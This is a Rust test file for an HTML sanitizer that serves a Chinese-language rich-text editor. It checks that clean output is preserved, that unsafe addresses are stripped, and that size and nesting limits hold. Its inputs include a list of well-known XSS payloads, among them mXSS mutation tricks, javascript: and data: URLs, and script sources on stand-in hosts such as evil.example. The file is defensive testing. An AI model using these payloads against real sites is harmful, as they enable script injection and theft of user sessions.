use super::*;

const FILES: &str = "/server/file/";

fn cleaned(html: &str) -> String {
    clean(html, FILES).unwrap()
}

#[test]
fn what_the_editor_makes_comes_through_unchanged() {
    for html in [
        "<p>第一段<br>第二行</p>",
        r#"<h1 style="text-align: center">标题</h1>"#,
        "<ul><li>一</li><li><b>二</b></li></ul>",
        r#"<ol start="3"><li>三</li></ol>"#,
        r#"<table border="1"><tbody><tr><td colspan="2" style="width: 50%">格</td></tr></tbody></table>"#,
        r#"<p><span style="font-size: 18pt; color: #ff0000">大红字</span></p>"#,
        r#"<img src="/server/file/editor/202603/0123456789abcdef0123456789abcdef.png" alt="图" width="300">"#,
        r#"<img src="https://example.com/a.png">"#,
        r#"<video src="/server/file/editor/202603/0123456789abcdef0123456789abcdef.mp4" controls=""></video>"#,
        "<blockquote>引用 &amp; <i>斜体</i> <u>下划线</u> <s>删除</s></blockquote>",
    ] {
        assert_eq!(cleaned(html), html);
    }
}

#[test]
fn a_picture_of_another_host_is_told_from_our_own() {
    for (html, expected) in [
        (r#"<p>src="https://a.cn/x.png"</p>"#, false),
        (r#"<p><img alt="图" src="/server/file/a.png"></p>"#, false),
        (
            r#"<img src="/server/file/a.png"><img src="https://a.cn/x.png">"#,
            true,
        ),
        (r#"<p><img width="3" src="https://a.cn/x.png"></p>"#, true),
    ] {
        assert_eq!(shows_foreign(&cleaned(html), FILES), expected, "{html}");
    }
}

#[test]
fn links_open_outside_and_tell_nothing() {
    let link = r#"<a href="https://example.com/?a=1&amp;b=2" target="_blank" rel="noopener noreferrer nofollow">去</a>"#;
    assert_eq!(
        cleaned(
            r#"<a href="https://example.com/?a=1&b=2" target="_top" rel="opener" onclick="x()">去</a>"#
        ),
        link
    );
}

#[test]
fn addresses_are_ours_or_https() {
    for address in [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "java\tscript:alert(1)",
        " javascript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "vbscript:x",
        "//evil.example/x.png",
        "/\\evil.example",
        "\\\\evil\\share",
        "/server/other/x.png",
        "/server/file/../../api/sys/user",
        "/server/file//evil.example/x.png",
        "/server/file/x.png?a=1",
        "/server/file/%2e%2e/x.png",
        "http://plain.example/x.png",
        "https://",
        "https:///x",
        "https://a b",
        "file:///etc/passwd",
        "blob:x",
        "x.png",
        "",
    ] {
        let html = cleaned(&format!("<img src=\"{}\">", address.replace('"', "&quot;")));
        assert_eq!(html, "<img>", "{address:?}");
        let html = cleaned(&format!("<video src=\"{address}\"></video>"));
        assert_eq!(html, r#"<video controls=""></video>"#, "{address:?}");
    }
    assert_eq!(
        cleaned(r#"<video src="https://example.com/a.mp4"></video>"#),
        r#"<video controls=""></video>"#
    );
    for address in [
        "javascript:alert(1)",
        "&#106;avascript:alert(1)",
        "/relative",
        "//evil.example",
        "mailto:a@b",
        "data:,x",
    ] {
        assert!(
            !cleaned(&format!("<a href=\"{address}\">x</a>")).contains("href"),
            "{address}"
        );
    }
}

/// One of each well-known family.
const PAYLOADS: &[&str] = &[
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<SCRIPT SRC=http://evil/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)//",
    "<img src=\"x` `<script>alert(1)</script>\"` `>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><annotation-xml encoding=\"text/html\"><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img onerror=alert(1) src>\">",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><img src=x onerror=alert(1)></template>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<div style=\"background:url(javascript:alert(1))\">x</div>",
    "<div style=\"width:expression(alert(1))\">x</div>",
    "<p style=\"color:red;}</style><script>alert(1)</script>\">x</p>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version=\"1.0\"?><script>alert(1)</script>",
    "<a href=\"javascript&colon;alert(1)\">x</a>",
    "<a href=\"java&#x0A;script:alert(1)\">x</a>",
    "<base href=\"javascript:/a/-alert(1)///\">",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<link rel=stylesheet href=http://evil/x.css>",
    "<style>@import 'http://evil/x.css'</style>",
    "<textarea><script>alert(1)</script></textarea>",
    "<title><script>alert(1)</script></title>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><script>alert(1)</script>",
    "\u{0}<script\u{0}>alert(1)</script>",
    "<img/src=\"x\"/onerror=alert(1)>",
    "<<script>alert(1);//<</script>",
];

/// None may leave a tag, attribute or address that runs.
#[test]
fn nothing_that_runs_is_left() {
    let handlers = [
        "onerror",
        "onload",
        "onclick",
        "onmouseover",
        "onfocus",
        "onanimationstart",
        "ontoggle",
        "onpointerenter",
        "formaction",
        "srcdoc",
        "xlink:href",
        "background",
        "ping",
    ];
    let tags = [
        "img",
        "video",
        "audio",
        "svg",
        "math",
        "body",
        "iframe",
        "object",
        "embed",
        "form",
        "input",
        "button",
        "details",
        "marquee",
        "a",
        "p",
        "div",
        "span",
        "table",
        "td",
        "style",
        "link",
        "meta",
        "base",
        "select",
        "textarea",
        "isindex",
        "keygen",
        "x",
        "custom-element",
    ];
    let mut payloads: Vec<String> = tags
        .iter()
        .flat_map(|tag| {
            handlers
                .iter()
                .map(move |on| format!("<{tag} src=x {on}=alert(1)>x</{tag}>"))
        })
        .collect();
    payloads.extend(PAYLOADS.iter().map(ToString::to_string));
    assert!(payloads.len() > 400);
    for payload in &payloads {
        let html = cleaned(payload).to_lowercase();
        assert_harmless(payload, &html);
        assert_eq!(
            cleaned(&html),
            html,
            "cleaning again changes nothing: {payload}"
        );
    }
}

/// Looks only at real tags: text is escaped, so a `<` begins one.
fn assert_harmless(payload: &str, html: &str) {
    for tag in html
        .split('<')
        .skip(1)
        .map(|rest| rest.split('>').next().unwrap_or_default())
    {
        let name = tag
            .trim_start_matches('/')
            .split([' ', '/'])
            .next()
            .unwrap_or_default();
        assert!(TAGS.contains(&name), "{payload} left <{tag}>");
        for forbidden in [
            " on",
            "javascript",
            "srcdoc",
            "formaction",
            "expression",
            "url(",
            "data:",
        ] {
            assert!(!tag.contains(forbidden), "{payload} left <{tag}>");
        }
    }
}

#[test]
fn unknown_tags_leave_their_text_and_scripts_leave_none() {
    assert_eq!(cleaned("<font face=x>字</font><o:p>词</o:p>"), "字词");
    assert_eq!(
        cleaned("a<script>alert(1)</script>b<style>p{}</style>c"),
        "abc"
    );
}

#[test]
fn a_megabyte_is_enough() {
    assert_eq!(
        clean(&"x".repeat(MAX_BYTES + 1), FILES),
        Err(RichTextError::TooLong)
    );
    assert!(clean(&"x".repeat(MAX_BYTES), FILES).is_ok());
    assert_eq!(
        RichTextError::TooLong.to_string(),
        "内容过长，请删减后再保存"
    );
}

#[test]
fn a_long_orderly_text_passes_and_a_tangled_one_is_refused_at_once() {
    let row = r#"<tr><td style="width: 50%">格</td><td>二</td></tr>"#;
    let long = format!("<table><tbody>{}</tbody></table>", row.repeat(10_000));
    assert_eq!(cleaned(&long), long);
    for piece in [
        "<div>",
        "<ul><li>",
        "<div></b>",
        "<div title=\"</div>\">",
        "<i><a>",
        "<div><table></div></table>",
    ] {
        let tangled = piece.repeat(MAX_BYTES / piece.len());
        assert_eq!(
            clean(&tangled, FILES),
            Err(RichTextError::TooTangled),
            "{piece}"
        );
        let few = piece.repeat(1_000);
        assert!(clean(&few, FILES).is_ok(), "{piece}");
    }
}
